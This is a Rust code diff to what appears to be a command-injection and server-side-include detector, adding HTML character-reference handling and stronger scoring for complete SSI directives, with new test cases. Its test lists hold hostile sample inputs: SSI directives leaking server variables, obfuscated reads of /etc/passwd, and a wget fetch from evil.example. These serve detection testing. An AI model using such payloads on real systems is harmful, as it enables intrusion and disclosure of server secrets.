@@ -196,12 +196,31 @@ fn separator_at(s: &[u8], i: usize) -> Option<(Sep, usize)> {
         b'`' => (Sep::Subst, i + 1),
         b'$' if s.get(i + 1) == Some(&b'(') && s.get(i + 2) != Some(&b'(') => (Sep::Subst, i + 2),
         b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (Sep::Subst, i + 2),
+        // The `;` that ends an HTML character reference (`a&#x2e;net`, `&amp;`) separates
+        // nothing: in a shell the `&` would background and `#` start a comment.
+        b';' if ends_char_ref(s, i) => return None,
         b';' => (Sep::Chain, i + 1),
         b'\n' | b'\r' => (Sep::Newline, i + 1),
         b'|' => (Sep::Chain, if s.get(i + 1) == Some(&b'|') { i + 2 } else { i + 1 }),
         b'&' => (Sep::Chain, if s.get(i + 1) == Some(&b'&') { i + 2 } else { i + 1 }),
         _ => return None,
     })
+}
+
+/// Whether the `;` at `i` closes an HTML character reference: `&#123;`, `&#x7b;`, `&lt;`.
+fn ends_char_ref(s: &[u8], i: usize) -> bool {
+    let head = s.get(..i).unwrap_or_default();
+    let body_len = head.iter().rev().take_while(|c| c.is_ascii_alphanumeric()).count();
+    if body_len == 0 || body_len > 10 {
+        return false;
+    }
+    let start = i - body_len;
+    let body = s.get(start..i).unwrap_or_default();
+    match (start.checked_sub(2).and_then(|k| s.get(k..start)), start.checked_sub(1).and_then(|k| s.get(k))) {
+        (Some(b"&#"), _) => body.iter().all(u8::is_ascii_digit) || body.first().is_some_and(|c| matches!(c, b'x' | b'X')) && body.get(1..).is_some_and(|h| !h.is_empty() && h.iter().all(u8::is_ascii_hexdigit)),
+        (_, Some(b'&')) => body.len() >= 2 && body.iter().all(u8::is_ascii_alphabetic),
+        _ => false,
+    }
 }
 
 /// Words of a cmd.exe `IF` condition (`batch_statement`).
@@ -593,7 +612,12 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
         let (score, ok) = if d.starts_with("exec") || d.starts_with("include") || d.starts_with("fsize") || d.starts_with("flastmod") {
             (5, true)
         } else if d.starts_with("echo") || d.starts_with("printenv") || d.starts_with("config") || d.starts_with("set") {
-            (3, true)
+            // A complete directive (attributes or the comment close) leaks the server's
+            // environment or changes its output; a bare word after `<!--#` stays weak.
+            let word_end = d.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(d.len());
+            let rest = d.get(word_end..).unwrap_or_default().trim_start();
+            let complete = rest.starts_with("-->") || ["var=", "errmsg=", "timefmt=", "sizefmt=", "echomsg=", "value="].iter().any(|a| rest.starts_with(a));
+            (if complete { 5 } else { 3 }, true)
         } else {
             (0, false)
         };
@@ -1298,6 +1322,9 @@ mod tests {
             ";+$u+cat+/etc$u/passwd+\\#",
             ";cat+/e??/pa???d",
             "<!--#exec cmd=\"/usr/bin/id;-->",
+            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
+            "<!--#printenv -->",
+            "<!--#config errmsg=\"x\" -->",
             "netstat -an",
             "wget https://evil.example/x.txt",
             "' whoami",
@@ -1495,6 +1522,9 @@ mod tests {
     fn benign() {
         for b in [
             "Tom & Jerry",
+            "ann&#x40;mail&#x2e;net",
+            "jo&#46;doe&#64;host&#46;cat",
+            "fish &amp; chips&#x2d;id&#x2e;nc",
             "rock & roll; jazz | blues",
             "I came; I saw; I conquered",
             "salt & pepper",
